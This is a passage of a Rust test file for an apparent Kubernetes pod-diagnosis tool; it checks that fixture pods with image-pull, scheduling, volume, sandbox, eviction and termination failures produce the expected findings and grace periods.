}

#[test]
fn readiness_gates_and_silent_nodes_keep_ready_pods_from_being_ready() {
    let with = |reason: &str, since| {
        let mut status = container("app", running(3000), json!({}), 0);
        status["ready"] = true.into();
        pod(json!({"spec": {"readinessGates": [{"conditionType": "lb.example.com/ready"}]},
            "status": {"containerStatuses": [status], "conditions": [condition("PodScheduled", "True", "", "", 3600),
                condition("Ready", "False", reason, "corresponding condition of pod readiness gate \"lb.example.com/ready\" does not exist.", since)]}}))
    };
    warns(
        &look(&with("ReadinessGatesNotReady", 100)),
        R::ReadinessGatesNotReady,
        C::ReadinessGate,
        &["lb.example.com/ready"],
    );
    waits_for_grace(&with("ReadinessGatesNotReady", 10), None, R::ReadinessGatesNotReady);
    // The control plane gave up on the node and touched nothing else: with nodes at hand the node is the finding.
    let silent = with("", 100);
    warns(&look(&silent), R::NodeNotReady, C::KubeletSilent, &["node-a"]);
    let nodes = Context { sources: Sources { nodes: true, ..Sources::NONE }, ..Context::pod_only() };
    quiet(&diagnosis::diagnose(&silent, &nodes, now()));
}

#[test]
fn a_sick_device_is_named_and_an_unknown_one_is_not() {
    let with = |health: &str| {
        let mut status = container("app", running(3000), json!({}), 0);
        status["ready"] = true.into();
        status["allocatedResourcesStatus"] = json!([{"name": "nvidia.com/gpu", "resources": [{"resourceID": "GPU-1", "health": health, "message": "XID 79"}, {"resourceID": "GPU-0", "health": "Healthy"}]}]);
        pod(
            json!({"status": {"conditions": [condition("Ready", "True", "", "", 3000)], "containerStatuses": [status]}}),
        )
    };
    warns(
        &look(&with("Unhealthy")),
        R::DeviceUnhealthy,
        C::DeviceUnhealthy,
        &["nvidia.com/gpu", "GPU-1", "XID 79"],
    );
    assert!(look(&with("Unknown")).findings.is_empty());
}

// Containers that do not start.

pub fn stuck(reason: &str, message: &str, since: i64) -> Pod {
    let mut p = unborn("True", since);
    p.status.container_statuses[0].state.waiting.as_mut().unwrap().reason = reason.to_owned();
    p.status.container_statuses[0].state.waiting.as_mut().unwrap().message = message.to_owned();
    p
}

#[test]
fn every_waiting_reason_that_is_an_error_has_its_own_finding() {
    for (word, message, reason, code, said) in [
        (
            "ImagePullBackOff",
            "Back-off pulling image \"r.example.com/shop/cart:1\": ErrImagePull: rpc error: code = NotFound desc = failed to pull and unpack image: r.example.com/shop/cart:1: not found",
            R::ImagePullBackOff,
            C::ImageNotFound,
            "r.example.com",
        ),
        (
            "ErrImagePull",
            "unexpected status from HEAD request to https://r.example.com/v2/shop/cart/manifests/1: 429 Too Many Requests",
            R::ImagePullBackOff,
            C::RegistryRateLimited,
            "429",
        ),
        (
            "RegistryUnavailable",
            "image pull failed for x because the registry is unavailable: connect ECONNREFUSED",
            R::ImagePullBackOff,
            C::RegistryUnreachable,
            "the registry is unavailable",
        ),
        (
            "InvalidImageName",
            "Failed to apply default image tag \"Shop/Cart\": couldn't parse image name \"Shop/Cart\": invalid reference format: repository name must be lowercase",
            R::InvalidImageName,
            C::InvalidImageReference,
            "lowercase",
        ),
        (
            "ErrImageNeverPull",
            "Container image \"x\" is not present with pull policy of Never",
            R::ErrImageNeverPull,
            C::ImageNotPresent,
            "node-a",
        ),
        (
            "ImageInspectError",
            "Failed to inspect image \"\": short name mode is enforcing, but image name nginx returns ambiguous list",
            R::ImageInspectError,
            C::ImageShortName,
            "short name",
        ),
        (
            "SignatureValidationFailed",
            "image pull failed for x because the signature validation failed: Source image rejected",
            R::SignatureValidationFailed,
            C::ImageSignature,
            "signature",
        ),
        (
            "CreateContainerConfigError",
            "configmap \"cart-config\" not found",
            R::CreateContainerConfigError,
            C::MissingConfigMap,
            "get configmap cart-config",
        ),
        (
            "CreateContainerConfigError",
            "secret \"cart-db\" not found",
            R::CreateContainerConfigError,
            C::MissingSecret,
            "cart-db",
        ),
        (
            "CreateContainerConfigError",
            "couldn't find key url in ConfigMap shop/cart-config",
            R::CreateContainerConfigError,
            C::MissingConfigMapKey,
            "url",
        ),
        (
            "CreateContainerConfigError",
            "couldn't find key password in Secret shop/cart-db",
            R::CreateContainerConfigError,
            C::MissingSecretKey,
            "password",
        ),
        (
            "CreateContainerConfigError",
            "container has runAsNonRoot and image will run as root (pod: \"cart\", container: app)",
            R::CreateContainerConfigError,
            C::RunAsNonRootViolated,
            "runAsNonRoot",
        ),
        (
            "CreateContainerConfigError",
            "container's runAsUser breaks non-root policy (pod: \"cart\", container: app)",
            R::CreateContainerConfigError,
            C::RunAsNonRootViolated,
            "root",
        ),
        (
            "CreateContainerConfigError",
            "failed to prepare subPath for volumeMount \"data\" of container \"app\"",
            R::CreateContainerConfigError,
            C::SubPathFailed,
            "subPath",
        ),
        (
            "CreateContainerConfigError",
            "failed to sync configmap cache: timed out waiting for the condition",
            R::CreateContainerConfigError,
            C::RuntimeTimeout,
            "API server",
        ),
        (
            "CreateContainerConfigError",
            "environment variable key \"URL\" not found in file \"env\"",
            R::CreateContainerConfigError,
            C::MissingConfiguration,
            "URL",
        ),
        (
            "CreateContainerError",
            "failed to reserve container name \"app_cart_shop_1_0\": name \"app_cart_shop_1_0\" is reserved for \"5f0c\"",
            R::CreateContainerError,
            C::ContainerNameReserved,
            "node-a",
        ),
        (
            "CreateContainerError",
            "context deadline exceeded",
            R::CreateContainerError,
            C::RuntimeTimeout,
            "in time",
        ),
        (
            "PreCreateHookError",
            "not enough cpus available to satisfy request",
            R::PreCreateHookError,
            C::RuntimeError,
            "not enough cpus",
        ),
        (
            "PreStartHookError",
            "memory manager failed",
            R::PreStartHookError,
            C::RuntimeError,
            "memory manager",
        ),
        ("failed to lookup RuntimeClass gvisor: not found", "", R::Other, C::RuntimeError, "gvisor"),
    ] {
        warns(&look(&stuck(word, message, 400)), reason, code, &[said]);
    }
}

#[test]
fn a_start_that_may_still_heal_waits_for_its_grace() {
    for (word, message, reason) in [
        ("ErrImagePull", "dial tcp: lookup r.example.com: no such host", R::ImagePullBackOff),
        ("CreateContainerConfigError", "secret \"x\" not found", R::CreateContainerConfigError),
        ("CreateContainerError", "context deadline exceeded", R::CreateContainerError),
        ("ImageInspectError", "Failed to inspect image", R::ImageInspectError),
        ("PreCreateHookError", "x", R::PreCreateHookError),
        ("What nobody knows", "", R::Other),
    ] {
        waits_for_grace(&stuck(word, message, 10), None, reason);
    }
    // The kubelet spaces out its pulls and goes on by itself.
    is(
        &look(&stuck("ErrImagePull", "pull QPS exceeded", 400)),
        R::ImagePullBackOff,
        C::KubeletPullThrottled,
        Severity::Info,
        &[],
    );
}

#[test]
fn a_hook_at_the_start_that_fails_has_its_container_killed() {
    let message = "Exec lifecycle hook ([/warm-up]) for Container \"app\" in Pod \"cart\" failed - error: command exited with 7, message: \"no cache\"";
    let killed = || end("Error", 137, 40, 5);
    warns(
        &look(&app(waiting("PostStartHookError", message), killed(), 2)),
        R::PostStartHookError,
        C::HookFailed,
        &["no cache"],
    );
    // The kubelet shows that for a second or two. Without events the hook is only a guess, and the same reason.
    let hook = json!({"lifecycle": {"postStart": {"exec": {"command": ["/warm-up"]}}}});
    let f = warns(
        &look(&app_with(hook, killed(), end("Error", 137, 130, 95), 2)),
        R::PostStartHookError,
        C::HookFailed,
        &["events were not read"],
    );
    assert_eq!(f.confidence, Confidence::Possible);
    let events = [
        event("FailedPostStartHook", "PostStartHook failed", 36),
        event("Killing", "FailedPostStartHook", 36),
    ];
    warns(
        &look_with(&app(killed(), end("Error", 137, 130, 95), 2), &events),
        R::PostStartHookError,
        C::HookFailed,
        &["PostStartHook failed"],
    );
}

#[test]
fn debug_containers_and_pods_on_their_way_are_left_alone() {
    let debug = |state: Value| {
        pod(json!({"spec": {"ephemeralContainers": [{"name": "debug", "image": "busybox"}]},
        "status": {"ephemeralContainerStatuses": [container("debug", state, json!({}), 0)],
            "conditions": [condition("Ready", "True", "", "", 3000)]}}))
    };
    quiet(&look(&debug(end("Error", 137, 60, 5))));
    quiet(&look(&debug(waiting(
        "ImagePullBackOff",
        "Back-off pulling image \"busybox\": ErrImagePull: x: not found",
    ))));
    // Behind an init container everything waits.
    quiet(&look(&pod(
        json!({"spec": {"initContainers": [{"name": "a", "image": "x"}]}, "status": {"phase": "Pending",
        "initContainerStatuses": [container("a", running(30), json!({}), 0)],
        "containerStatuses": [container("app", waiting("PodInitializing", ""), json!({}), 0)]}}),
    )));
    // A virtual kubelet's own word for the same.
    quiet(&look(&stuck("Waiting", "", 100)));
    // One sibling never started: the pod is Pending, and the other still runs.
    let two = pod(
        json!({"spec": {"containers": [{"name": "app", "image": "x"}, {"name": "log", "image": "y"}]}, "status": {"phase": "Pending",
        "containerStatuses": [container("app", waiting("ImagePullBackOff", "Back-off pulling image \"x\": ErrImagePull: x: not found"), json!({}), 0), container("log", running(3000), json!({}), 0)]}}),
    );
    assert_eq!(warns(&look(&two), R::ImagePullBackOff, C::ImageNotFound, &[]).container, "app");
}

// Pods without a node, or without a start.

pub fn pending(reason: &str, message: &str, since: i64) -> Pod {
    pod(
        json!({"metadata": {"creationTimestamp": ago(since)}, "spec": {"nodeName": "", "schedulingGates": [{"name": "kueue.x-k8s.io/admission"}],
            "containers": [{"name": "app", "image": "x", "resources": {"requests": {"cpu": "4", "memory": "8Gi"}}}],
            "volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": "data-0"}}]},
        "status": {"phase": "Pending", "startTime": null, "conditions": [condition("PodScheduled", "False", reason, message, since)]}}),
    )
}

#[test]
fn what_keeps_a_pod_from_a_node_is_counted_per_cause() {
    for (message, code, said) in [
        (
            "0/5 nodes are available: 2 Insufficient cpu, 3 node(s) had untolerated taint(s). no new claims to deallocate, preemption: 0/5 nodes are available: 5 Preemption is not helpful for scheduling.",
            C::InsufficientResources,
            "2 Insufficient cpu",
        ),
        // 1.24 to 1.26.
        (
            "0/5 nodes are available: 1 Insufficient memory, 4 node(s) had taint {node.kubernetes.io/not-ready: }, that the pod didn't tolerate.",
            C::InsufficientResources,
            "4 node(s) had taint {node.kubernetes.io/not-ready: } that the pod didn't tolerate",
        ),
        (
            "0/3 nodes are available: 3 node(s) had untolerated taint {dedicated: gpu}. preemption: 0/3 nodes are available: 3 Preemption is not helpful for scheduling.",
            C::UntoleratedTaint,
            "dedicated: gpu",
        ),
        (
            "0/3 nodes are available: 3 node(s) didn't match Pod's node affinity/selector.",
            C::NodeSelectorMismatch,
            "3 node(s)",
        ),
        (
            "0/3 nodes are available: 3 node(s) didn't match pod topology spread constraints (missing required label).",
            C::AffinityUnsatisfied,
            "topology",
        ),
        (
            "0/3 nodes are available: 3 node(s) didn't satisfy existing pods anti-affinity rules.",
            C::AffinityUnsatisfied,
            "anti-affinity",
        ),
        (
            "0/3 nodes are available: 3 node(s) didn't have free ports for the requested pod ports.",
            C::HostPortTaken,
            "free ports",
        ),
        ("0/3 nodes are available: 3 Too many pods.", C::TooManyPods, "maximum number of pods"),
        ("0/3 nodes are available: 3 node(s) were unschedulable.", C::NodesUnschedulable, "uncordon"),
        (
            "0/3 nodes are available: pod has unbound immediate PersistentVolumeClaims. preemption: 0/3 nodes are available: 3 Preemption is not helpful for scheduling.",
            C::VolumeUnavailable,
            "data-0",
        ),
        (
            "0/3 nodes are available: 3 node(s) unavailable due to one or more pvc(s) bound to non-existent pv(s).",
            C::VolumeUnavailable,
            "non-existent",
        ),
        (
            "0/3 nodes are available: 3 node(s) did not have enough free storage.",
            C::InsufficientResources,
            "free storage",
        ),
        (
            "0/3 nodes are available: 3 node(s) exceed max volume count.",
            C::VolumeUnavailable,
            "max volume count",
        ),
        ("0/3 nodes are available: 3 cannot allocate all claims.", C::DeviceAllocationFailed, "claims"),
        ("persistentvolumeclaim \"data-0\" not found", C::VolumeUnavailable, "data-0"),
        ("no nodes available to schedule pods", C::SchedulingConstraints, "no nodes"),
        (
            "3/3 tasks in gang unschedulable: pod group is not ready, 3 Pending, 3 minAvailable",
            C::SchedulingConstraints,
            "pod group",
        ),
    ] {
        warns(&look(&pending("Unschedulable", message, 100)), R::Unschedulable, code, &[said]);
    }
}

#[test]
fn a_pod_without_a_node_is_given_time_and_an_autoscaler_more() {
    let message = "0/5 nodes are available: 5 Insufficient cpu.";
    waits_for_grace(&pending("Unschedulable", message, 30), None, R::Unschedulable);
    let waiting = pending("Unschedulable", message, 100);
    for reason in ["TriggeredScaleUp", "Nominated"] {
        quiet(&look_with(&waiting, &[event(reason, "pod triggered scale-up: [{asg 3->4 (max: 9)}]", 90)]));
        waits_for_grace(&waiting, Some(&[event(reason, "pod triggered scale-up", 90)]), R::Unschedulable);
    }
    warns(
        &look_with(
            &waiting,
            &[event("NotTriggerScaleUp", "pod didn't trigger scale-up: 1 max node group size reached", 90)],
        ),
        R::Unschedulable,
        C::InsufficientResources,
        &["max node group size"],
    );
    is(
        &look(&pending("SchedulingGated", "Scheduling is blocked due to non-empty scheduling gates", 700)),
        R::SchedulingGated,
        C::SchedulingGate,
        Severity::Info,
        &["kueue.x-k8s.io/admission"],
    );
    warns(
        &look(&pending(
            "SchedulerError",
            "running PreBind plugin \"VolumeBinding\": binding volumes: timed out waiting for the condition",
            100,
        )),
        R::SchedulerError,
        C::VolumeUnavailable,
        &["VolumeBinding"],
    );
    // No scheduler of that name: not even a condition.
    let mut ignored = pending("", "", 100);
    ignored.status.conditions.clear();
    warns(&look(&ignored), R::SchedulerError, C::SchedulingConstraints, &["no scheduler"]);
    ignored.metadata.creation_timestamp = now().into();
    waits_for_grace(&ignored, None, R::SchedulerError);
}

#[test]
fn volumes_that_do_not_come_are_named_with_what_to_do() {
    for (reason, message, code, said) in [
        (
            "FailedMount",
            "MountVolume.SetUp failed for volume \"tls\" : secret \"cart-tls\" not found",
            C::MissingSecret,
            "get secret cart-tls",
        ),
        (
            "FailedMount",
            "MountVolume.SetUp failed for volume \"conf\" : configmap \"cart-conf\" not found",
            C::MissingConfigMap,
            "cart-conf",
        ),
        (
            "FailedMount",
            "MountVolume.SetUp failed for volume \"tls\" : references non-existent secret key: tls.key",
            C::MissingSecretKey,
            "tls.key",
        ),
        (
            "FailedMount",
            "MountVolume.SetUp failed for volume \"conf\" : references non-existent config key: app.yaml",
            C::MissingConfigMapKey,
            "app.yaml",
        ),
        (
            "FailedAttachVolume",
            "Multi-Attach error for volume \"pvc-1\" Volume is already exclusively attached to one node and can't be attached to another",
            C::VolumeAttachFailed,
            "another node",
        ),
        (
            "FailedAttachVolume",
            "AttachVolume.Attach failed for volume \"pvc-1\" : rpc error: code = DeadlineExceeded desc = context deadline exceeded",
            C::VolumeAttachFailed,
            "context deadline exceeded",
        ),
        (
            "FailedMount",
            "MountVolume.MountDevice failed for volume \"pvc-1\" : rpc error: code = Aborted desc = an operation with the given Volume ID 7 already exists",
            C::VolumeMountFailed,
            "earlier attempt",
        ),
        (
            "FailedMount",
            "MountVolume.SetUp failed for volume \"nfs\" : mount failed: exit status 32 Mounting command: mount Output: mount.nfs: access denied by server while mounting nfs.example.com:/export",
            C::VolumeMountFailed,
            "exports",
        ),
        (
            "FailedMount",
            "MountVolume.SetUp failed for volume \"nfs\" : mount failed: exit status 32 Output: mount: wrong fs type, bad option, bad superblock on nfs.example.com:/export",
            C::VolumeMountFailed,
            "nfs-common",
        ),
        (
            "FailedMount",
            "MountVolume.SetUp failed for volume \"dev\" : hostPath type check failed: /dev/kvm is not a character device",
            C::VolumeMountFailed,
            "hostPath",
        ),
        (
            "FailedMount",
            "MountVolume.MountDevice failed for volume \"pvc-1\" : kubernetes.io/csi: attacher.MountDevice failed to create newCsiDriverClient: driver name ebs.csi.aws.com not found in the list of registered CSI drivers",
            C::VolumeMountFailed,
            "driver's node pod",
        ),
        (
            "FailedMount",
            "MountVolume.SetUp failed for volume \"secrets-store\" : rpc error: code = Unknown desc = failed to mount secrets store objects for pod shop/cart, err: secrets \"spc-creds\" not found",
            C::VolumeMountFailed,
            "spc-creds",
        ),
        (
            "FailedMount",
            "Unable to attach or mount volumes: unmounted volumes=[data], unattached volumes=[data kube-api-access-x]: timed out waiting for the condition",
            C::VolumeMountFailed,
            "volume data",
        ),
        (
            "FailedMapVolume",
            "MapVolume.MapBlockVolume failed for volume \"pvc-1\" : blkUtil.AttachFileDevice failed",
            C::VolumeMountFailed,
            "pvc-1",
        ),
    ] {
        warns(
            &look_with(&unborn("False", 400), &[event(reason, message, 10)]),
            R::VolumeNotReady,
            code,
            &[said],
        );
    }
    waits_for_grace(
        &unborn("False", 30),
        Some(&[event(
            "FailedMount",
            "MountVolume.SetUp failed for volume \"t\" : secret \"s\" not found",
            10,
        )]),
        R::VolumeNotReady,
    );
}

#[test]
fn the_attempt_that_says_why_leads_over_the_wait_that_does_not() {
    let events = [
        event(
            "FailedAttachVolume",
            "Multi-Attach error for volume \"pvc-1\" Volume is already used by pod(s) cart-7d9f-old",
            401,
        ),
        event_times(
            "FailedMount",
            "Unable to attach or mount volumes: unmounted volumes=[data], unattached volumes=[]: timed out waiting for the condition",
            270,
            10,
            3,
        ),
    ];
    for events in [events.to_vec(), events.iter().rev().cloned().collect()] {
        warns(
            &look_with(&unborn("False", 400), &events),
            R::VolumeNotReady,
            C::VolumeAttachFailed,
            &["cart-7d9f-old", "still attached"],
        );
    }
    // A mount that failed at first is none of the pull that goes on now.
    quiet(&look_with(
        &unborn("True", 400),
        &[events[0].clone(), event("Pulling", "Pulling image \"big\"", 390)],
    ));
}

#[test]
fn sandboxes_that_cannot_be_made_say_what_of_it_fails() {
    for (message, code, said) in [
        (
            "Failed to create pod sandbox: rpc error: code = Unknown desc = failed to setup network for sandbox \"40d7bc158517c695\": plugin type=\"aws-cni\" name=\"aws-cni\" failed (add): add cmd: failed to assign an IP address to container",
            C::NetworkSetupFailed,
            "no IP address is left",
        ),
        // Docker's shim, and containerd before 1.6.
        (
            "Failed create pod sandbox: rpc error: code = Unknown desc = failed to set up sandbox container \"9234\" network for pod \"cart\": NetworkPlugin cni failed to set up pod \"cart_shop\" network: add cmd: failed to assign an IP address to container",
            C::NetworkSetupFailed,
            "no IP address is left",
        ),
        (
            "Failed to create pod sandbox: rpc error: code = Unknown desc = failed to setup network for sandbox \"1\": plugin type=\"bridge\" failed (add): failed to allocate for range 0: no IP addresses available in range set: 10.0.0.1-10.0.0.254",
            C::NetworkSetupFailed,
            "no IP address is left",
        ),
        (
            "Failed to create pod sandbox: rpc error: code = Unknown desc = failed to setup network for sandbox \"1\": plugin type=\"calico\" failed (add): stat /var/lib/calico/nodename: no such file or directory: check that the calico/node container is running",
            C::NetworkSetupFailed,
            "writes this file when it is up",
        ),
        (
            "Failed to create pod sandbox: rpc error: code = Unknown desc = failed to setup network for sandbox \"1\": plugin type=\"calico\" failed (add): error getting ClusterInformation: connection is unauthorized: Unauthorized",
            C::NetworkSetupFailed,
            "does not accept the network plugin's credentials",
        ),
        (
            "Failed to create pod sandbox: rpc error: code = Unknown desc = failed to setup network for sandbox \"1\": plugin type=\"cilium-cni\" failed (add): unable to connect to Cilium agent: failed to create cilium agent client after 30.000000 seconds timeout: Get \"http://localhost/v1/config\": dial unix /var/run/cilium/cilium.sock: connect: no such file or directory",
            C::NetworkSetupFailed,
            "agent on node",
        ),
        (
            "Failed to create pod sandbox: rpc error: code = Unknown desc = failed to setup network for sandbox \"1\": failed to find plugin \"portmap\" in path [/opt/cni/bin]",
            C::NetworkSetupFailed,
            "binary is not on node",
        ),
        (
            "Failed to create pod sandbox: rpc error: code = Unknown desc = failed to get sandbox image \"registry.k8s.io/pause:3.9\": failed to pull image \"registry.k8s.io/pause:3.9\": failed to do request: Head \"https://registry.k8s.io\": dial tcp 1.2.3.4:443: i/o timeout",
            C::RegistryUnreachable,
            "pause",
        ),
        (
            "Failed to create pod sandbox: rpc error: code = Unknown desc = failed to reserve sandbox name \"cart_shop_1_0\": name \"cart_shop_1_0\" is reserved for \"77\"",
            C::ContainerNameReserved,
            "reserved",
        ),
        (
            "Failed to create pod sandbox: rpc error: code = DeadlineExceeded desc = context deadline exceeded",
            C::RuntimeTimeout,
            "in time",
        ),
        (
            "Failed to create pod sandbox: rpc error: code = Unknown desc = failed to create containerd task: failed to create shim task: OCI runtime create failed: container_linux.go: container init was OOM-killed (memory limit too low?): unknown",
            C::MemoryLimitReached,
            "raise the memory limit",
        ),
        (
            "Failed to create pod sandbox: rpc error: code = Unknown desc = no runtime for \"gvisor\" is configured",
            C::SandboxFailed,
            "RuntimeClass",
        ),
        (
            "Failed to create pod sandbox: mkdir /run/containerd/io.containerd: no space left on device",
            C::NodeDiskFull,
            "no space left on device",
        ),
        (
            "Failed to create pod sandbox: rpc error: code = ResourceExhausted desc = grpc: received message larger than max",
            C::SandboxFailed,
            "sandbox",
        ),
    ] {
        warns(
            &look_with(&unborn("False", 400), &[event("FailedCreatePodSandBox", message, 10)]),
            R::FailedCreatePodSandBox,
            code,
            &[said],
        );
    }
    warns(
        &look_with(
            &unborn("False", 400),
            &[event(
                "NetworkNotReady",
                "network is not ready: container runtime network not ready: NetworkReady=false reason:NetworkPluginNotReady message:Network plugin returns error: cni plugin not initialized",
                10,
            )],
        ),
        R::FailedCreatePodSandBox,
        C::NetworkSetupFailed,
        &["no network plugin is set up"],
    );
    warns(
        &look_with(
            &unborn("False", 400),
            &[event(
                "FailedPrepareDynamicResources",
                "Failed to prepare dynamic resources: NodePrepareResources failed for ResourceClaim gpu: driver not registered",
                10,
            )],
        ),
        R::FailedPrepareDynamicResources,
        C::DeviceAllocationFailed,
        &["driver not registered"],
    );
    waits_for_grace(
        &unborn("False", 30),
        Some(&[event("FailedCreatePodSandBox", "Failed to create pod sandbox: x", 10)]),
        R::FailedCreatePodSandBox,
    );
}

#[test]
fn a_pod_that_does_not_start_and_gives_no_reason_is_found_late_and_a_large_pull_later() {
    warns(
        &look(&unborn("False", 400)),
        R::PodNotStarted,
        C::Unexplained,
        &["volumes", "events were not read"],
    );
    waits_for_grace(&unborn("False", 30), None, R::PodNotStarted);
    // The sandbox is there: most likely it pulls, for which ten minutes may be fair.
    quiet(&look(&unborn("True", 400)));
    warns(&look(&unborn("True", 700)), R::PodNotStarted, C::Unexplained, &["image pull"]);
    quiet(&look_with(&unborn("True", 400), &[event("Pulling", "Pulling image \"big\"", 390)]));
    warns(
        &look_with(&unborn("True", 800), &[event("Pulling", "Pulling image \"big\"", 790)]),
        R::PodNotStarted,
        C::ImagePullSlow,
        &["big"],
    );
    warns(
        &look_with(
            &unborn("True", 800),
            &[
                event("Pulling", "Pulling image \"big\"", 790),
                event("Pulled", "Successfully pulled image \"big\" in 9s", 780),
                event("Created", "Container created", 779),
            ],
        ),
        R::PodNotStarted,
        C::RuntimeTimeout,
        &["node-a"],
    );
    // Bound, and the kubelet does not even say that it has seen it.
    let unseen = |since| {
        pod(
            json!({"metadata": {"creationTimestamp": ago(since)}, "status": {"phase": "Pending", "startTime": null, "conditions": [condition("PodScheduled", "True", "", "", since)]}}),
        )
    };
    warns(&look(&unseen(400)), R::PodNotStarted, C::KubeletSilent, &["node-a"]);
    waits_for_grace(&unseen(10), None, R::PodNotStarted);
}

// Ends from outside, going, resizing.

pub fn failed(reason: &str, message: &str, more: Value) -> Pod {
    let mut over = json!({"status": {"phase": "Failed", "reason": reason, "message": message, "startTime": ago(100), "conditions": []}});
    merge(&mut over, more);
    pod(over)
}

#[test]
fn a_pod_that_was_ended_or_refused_says_by_whom() {
    for (reason, message, expected, code, severity, said) in [
        (
            "Evicted",
            "The node was low on resource: ephemeral-storage. Threshold quantity: 10Gi, available: 9Gi. Container app was using 5Gi, request is 0, has larger consumption of ephemeral-storage. ",
            R::Evicted,
            C::NodePressure,
            Severity::Warning,
            "ephemeral-storage",
        ),
        (
            "Evicted",
            "Usage of EmptyDir volume \"scratch\" exceeds the limit \"1Gi\". ",
            R::Evicted,
            C::StorageLimitExceeded,
            Severity::Warning,
            "scratch",
        ),
        (
            "Evicted",
            "Container app exceeded its local ephemeral storage limit \"1Gi\". ",
            R::Evicted,
            C::StorageLimitExceeded,
            Severity::Warning,
            "container app",
        ),
        (
            "Evicted",
            "Pod ephemeral local storage usage exceeds the total limit of containers 1Gi. ",
            R::Evicted,
            C::StorageLimitExceeded,
            Severity::Warning,
            "limit",
        ),
        (
            "Evicted",
            "Pod was rejected: The node had condition: [DiskPressure]. ",
            R::Evicted,
            C::NodePressure,
            Severity::Warning,
            "DiskPressure",
        ),
        (
            "DeadlineExceeded",
            "Pod was active on the node longer than the specified deadline",
            R::DeadlineExceeded,
            C::DeadlineReached,
            Severity::Warning,
            "deadline",
        ),
        (
            "Preempting",
            "Preempted in order to admit critical pod",
            R::Preempted,
            C::Preemption,
            Severity::Info,
            "critical",
        ),
        (
            "Terminated",
            "Pod was terminated in response to imminent node shutdown.",
            R::NodeShutdown,
            C::NodeShutDown,
            Severity::Info,
            "node-a",
        ),
        (
            "NodeShutdown",
            "Pod was rejected: Pod was rejected as the node is shutting down.",
            R::NodeShutdown,
            C::NodeShutDown,
            Severity::Info,
            "node-a",
        ),
        (
            "OutOfcpu",
            "Pod was rejected: Node didn't have enough resource: cpu, requested: 4000, used: 1000, capacity: 2000",
            R::OutOfcpu,
            C::NodeFull,
            Severity::Warning,
            "requested: 4000",
        ),
        (
            "OutOfnvidia.com/gpu",
            "Pod was rejected: Node didn't have enough resource: nvidia.com/gpu, requested: 1, used: 0, capacity: 0",
            R::AdmissionRejected,
            C::NodeFull,
            Severity::Warning,
            "nvidia.com/gpu",
        ),
        (
            "NodeAffinity",
            "Pod was rejected: Predicate NodeAffinity failed: node(s) didn't match Pod's node affinity/selector",
            R::NodeAffinity,
            C::NodeRefused,
            Severity::Warning,
            "affinity",
        ),
        (
            "UnexpectedAdmissionError",
            "Pod was rejected: Allocate failed due to requested number of devices unavailable for nvidia.com/gpu. Requested: 1, Available: 0, which is unexpected",
            R::UnexpectedAdmissionError,
            C::DeviceAllocationFailed,
            Severity::Warning,
            "Available: 0",
        ),
        (
            "TopologyAffinityError",
            "Pod was rejected: Resources cannot be allocated with Topology locality",
            R::TopologyAffinityError,
            C::NodeRefused,
            Severity::Warning,
            "Topology",
        ),
        (
            "SysctlForbidden",
            "Pod was rejected: forbidden sysctl: \"net.core.somaxconn\" not allowlisted",
            R::SysctlForbidden,
            C::NodeRefused,
            Severity::Warning,
            "net.core.somaxconn",
        ),
        (
            "SomethingNew",
            "Pod was rejected: a new rule",
            R::AdmissionRejected,
            C::NodeRefused,
            Severity::Warning,
            "a new rule",
        ),
        (
            "ProviderFailed",
            "the virtual node gave up",
            R::PodFailed,
            C::Unexplained,
            Severity::Warning,
            "ProviderFailed",
        ),
    ] {
        is(&look(&failed(reason, message, json!({}))), expected, code, severity, &[said]);
    }
    // What the kubelet makes up about a rejected pod after a restart is no end of a container.
    let husk = failed(
        "OutOfcpu",
        "Pod was rejected: Node didn't have enough resource: cpu",
        json!({"status": {"containerStatuses": [
        container("app", json!({"terminated": {"reason": "ContainerStatusUnknown", "exitCode": 137, "startedAt": null, "finishedAt": null}}), json!({}), 0)]}}),
    );
    assert!(!words(&look(&husk).findings[0]).contains("137"));
    // Long replaced by its controller: for reading only.
    let old = failed(
        "Evicted",
        "The node was low on resource: memory. ",
        json!({"status": {"startTime": ago(90_000)}}),
    );
    assert_eq!(look(&old).findings[0].stage, Stage::Recovered);
    let fresh = look(&failed("Evicted", "The node was low on resource: memory. ", json!({})));
    assert!(fresh.recheck.is_some());
}

#[test]
fn planned_ends_and_ordinary_deletes_raise_nothing() {
    let target = |reason: &str| condition("DisruptionTarget", "True", reason, "Eviction API: evicting", 30);
    for reason in
        ["EvictionByEvictionAPI", "DeletionByTaintManager", "DeletionByPodGC", "PreemptionByScheduler"]
    {
        quiet(&look(&failed("", "", json!({"status": {"conditions": [target(reason)]}}))));
        // On its way out, and what it does then is expected.
        let mut p = app(end("Error", 137, 60, 5), end("Error", 137, 130, 100), 3);
        p.status.conditions.push(serde_json::from_value(target(reason)).unwrap());
        quiet(&look(&p));
    }
    let deleted = |due: i64, more: Value| {
        let mut over = json!({"metadata": {"deletionTimestamp": ago(due), "deletionGracePeriodSeconds": 30},
            "status": {"containerStatuses": [container("app", end("Error", 137, 60, 5), end("OOMKilled", 137, 130, 100), 3)]}});
        merge(&mut over, more);
        pod(over)
    };
    assert!(look(&deleted(10, json!({}))).findings.is_empty());
    assert!(look(&deleted(-86_400, json!({"status": {"phase": "Failed"}}))).findings.is_empty());
    waits_for_grace(&deleted(10, json!({})), None, R::StuckTerminating);
    warns(
        &look(&deleted(100, json!({"metadata": {"finalizers": ["example.com/archive"]}}))),
        R::StuckTerminating,
        C::Finalizer,
        &["example.com/archive"],
    );
    warns(&look(&deleted(100, json!({}))), R::StuckTerminating, C::ContainersNotStopped, &["unmounted"]);
    warns(
        &look(&deleted(
            100,
            json!({"status": {"containerStatuses": [container("app", running(500), json!({}), 0)]}}),
        )),
        R::StuckTerminating,
        C::ContainersNotStopped,
        &["app"],
    );
    let node: Node = decode(
        &json!({"metadata": {"name": "node-a"}, "status": {"conditions": [{"type": "Ready", "status": "Unknown"}]}}),
    );
    let context = Context {
        sources: Sources { nodes: true, ..Sources::NONE },
        node: Some(&node),
        ..Context::pod_only()
    };
    warns(
        &diagnosis::diagnose(&deleted(100, json!({})), &context, now()),
        R::StuckTerminating,
        C::NodeLost,
        &["node-a"],
    );
    // A hook on the way out that fails is worth knowing; one that failed in an earlier run is none of it.
    is(
        &look_with(&deleted(5, json!({})), &[event("FailedPreStopHook", "PreStopHook failed", 20)]),
        R::FailedPreStopHook,
        C::HookFailed,
        Severity::Info,
        &["PreStopHook failed"],
    );
    is(
        &look_with(
            &deleted(5, json!({})),
            &[event(
                "ExceededGracePeriod",
                "Container runtime did not kill the pod within specified grace period.",
                4,
            )],
        ),
        R::FailedPreStopHook,
        C::ContainersNotStopped,
        Severity::Info,
        &["SIGTERM"],
    );
